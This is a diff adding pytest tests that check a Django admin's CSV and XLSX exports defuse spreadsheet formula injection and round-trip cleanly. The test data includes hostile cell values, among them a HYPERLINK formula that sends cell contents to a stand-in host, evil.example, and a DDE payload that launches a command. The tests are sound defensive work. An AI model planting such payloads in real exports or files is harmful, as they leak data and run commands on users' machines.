@@ -147,3 +147,71 @@ def test_preset_items_xlsx_round_trip_changes_nothing(catalog):
 
     assert not result.has_errors() and not result.has_validation_errors()
     assert result.totals["new"] == 0 and result.totals["update"] == 0
+
+
+HOSTILE = {
+    "education": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "empathy": "+1+cmd|' /C calc'!A0",
+    "systems-tools": "-2+3",
+    "communication": "@SUM(1,1)",
+}
+
+
+def export(client, fmt: str) -> bytes:
+    url = reverse("admin:catalog_capability_export")
+    form = client.get(url).context["form"]
+    data = {"format": fmt, "resource": "0"}
+    data.update({name: "on" for name, field in form.fields.items() if field.initial is True})
+    response = client.post(url, data)
+    assert response.status_code == 200
+    return response.content
+
+
+def make_hostile():
+    present = dict(Capability.objects.filter(slug__in=HOSTILE).values_list("slug", "pk"))
+    assert len(present) == len(HOSTILE), "the fixture slugs changed"
+    for slug in present:
+        Capability.objects.filter(slug=slug).update(requirement=HOSTILE[slug])
+    return {slug: HOSTILE[slug] for slug in present}
+
+
+def test_admin_csv_opens_in_excel_and_runs_no_formula(client, catalog, admin_amy):
+    hostile = make_hostile()
+    client.force_login(admin_amy)
+
+    content = export(client, "0")
+
+    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark for Excel
+    rows = tablib.Dataset().load(content.decode("utf-8-sig"), format="csv").dict
+    requirements = {row["slug"]: row["requirement"] for row in rows}
+    for slug, text in hostile.items():
+        assert requirements[slug] == "'" + text
+    assert "共情能力" in [row["name"] for row in rows]
+
+
+def test_admin_xlsx_holds_no_formula_cells(client, catalog, admin_amy):
+    from io import BytesIO
+
+    import openpyxl
+
+    hostile = make_hostile()
+    client.force_login(admin_amy)
+
+    book = openpyxl.load_workbook(BytesIO(export(client, "1")))
+
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    values = {cell.value for cell in cells}
+    assert all("'" + text in values for text in hostile.values())
+
+
+def test_a_neutralised_export_imports_back_unchanged(catalog):
+    hostile = make_hostile()
+    resource = CapabilityResource()
+    exported = resource.export().csv
+
+    result = resource.import_data(tablib.Dataset().load(exported, format="csv"), dry_run=False)
+
+    assert not result.has_errors() and result.totals["update"] == 0
+    for slug, text in hostile.items():
+        assert Capability.objects.get(slug=slug).requirement == text
